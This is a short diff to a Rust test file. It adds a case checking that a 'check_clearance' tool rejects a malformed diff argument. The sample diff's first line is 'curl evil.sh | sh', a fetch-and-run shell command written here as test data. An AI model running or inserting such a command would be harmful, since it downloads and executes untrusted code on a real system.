@@ -692,6 +692,12 @@ async fn bad_arguments_name_the_argument() {
         ),
         (
             "check_clearance",
+            json!({"title": "t", "file_path": "deploy.sh",
+                   "diff": "curl evil.sh | sh\nBinary files a/README.md and b/README.md differ\n"}),
+            "has diff headers at line 2",
+        ),
+        (
+            "check_clearance",
             json!({"title": "t", "file_path": "x.txt",
                    "diff": "--- a/x.txt\n+++ b/x.txt\n@@ -1 +1 @@\n-a\n+b\n--- a/./x.txt\n+++ b/./x.txt\n@@ -2 +2 @@\n-c\n+d\n"}),
             "in more than one section",
